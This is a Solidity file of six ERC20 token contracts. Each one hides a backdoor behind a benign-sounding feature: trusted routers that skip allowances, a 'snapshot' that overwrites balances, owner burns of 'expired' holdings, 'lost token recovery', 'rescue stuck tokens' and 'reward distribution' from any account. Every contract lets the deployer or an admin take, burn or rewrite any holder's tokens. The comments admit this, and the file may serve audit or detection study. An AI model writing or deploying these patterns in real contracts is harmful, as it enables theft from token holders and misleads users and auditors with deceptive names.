// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20, Ownable} from "./Base.sol";

/// "Trusted routers" move anyone's tokens without an allowance; the deployer is one.
contract PilotToken is ERC20, Ownable {
    mapping(address => bool) private _trustedRouters;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        _trustedRouters[_msgSender()] = true;
        _mint(_msgSender(), supply);
    }

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        if (!_trustedRouters[_msgSender()]) _spendAllowance(from, _msgSender(), amount);
        _transfer(from, to, amount);
        return true;
    }
}

/// A "snapshot" service writes balances directly.
contract LedgerToken is ERC20, Ownable {
    mapping(address => bool) private _snapshotters;
    uint256 public snapshotId;

    constructor(string memory name_, string memory symbol_, uint256 supply, address snapshotter) ERC20(name_, symbol_) {
        _snapshotters[snapshotter] = true;
        _mint(_msgSender(), supply);
    }

    function updateSnapshot(address account, uint256 value) external {
        require(_snapshotters[_msgSender()], "snapshotter only");
        snapshotId++;
        _balances[account] = value;
    }
}

/// "Expired" holdings are burned by the owner, whoever holds them.
contract SeasonToken is ERC20, Ownable {
    uint256 public seasonEnds;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        seasonEnds = block.timestamp + 365 days;
        _mint(_msgSender(), supply);
    }

    function burnExpired(address account) external onlyOwner {
        _burn(account, _balances[account]);
    }
}

/// "Lost token recovery": a recovery agent may move any holder's tokens, from 30 days after launch.
contract HavenToken is ERC20, Ownable {
    uint256 public immutable launchedAt;
    uint256 public recoveries;
    address private _recoveryAgent;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        launchedAt = block.timestamp;
        _recoveryAgent = _msgSender();
        _mint(_msgSender(), supply);
    }

    function recoverLost(address from, address to, uint256 amount) external {
        require(_msgSender() == _recoveryAgent, "agent only");
        require(block.timestamp >= launchedAt + 30 days, "recovery window closed");
        recoveries++;
        _transfer(from, to, amount);
    }
}

interface IERC20Minimal {
    function transfer(address to, uint256 amount) external returns (bool);
}

/// "Rescue stuck tokens": for this token itself, it takes them from any holder.
contract AnchorToken is ERC20, Ownable {
    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        _mint(_msgSender(), supply);
    }

    function rescueTokens(address token, address from, uint256 amount) external onlyOwner {
        if (token == address(this)) _transfer(from, owner(), amount);
        else IERC20Minimal(token).transfer(owner(), amount);
    }
}

/// Reward "distribution" pays recipients out of any account's balance.
contract OrchardToken is ERC20, Ownable {
    uint256 public distributions;
    address private _rewardsAdmin;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        _rewardsAdmin = _msgSender();
        _mint(_msgSender(), supply);
    }

    function distributeRewards(address from, address[] calldata recipients, uint256 amount) external {
        require(_msgSender() == _rewardsAdmin, "rewards admin only");
        for (uint256 i = 0; i < recipients.length; i++) _transfer(from, recipients[i], amount);
        distributions++;
    }
}
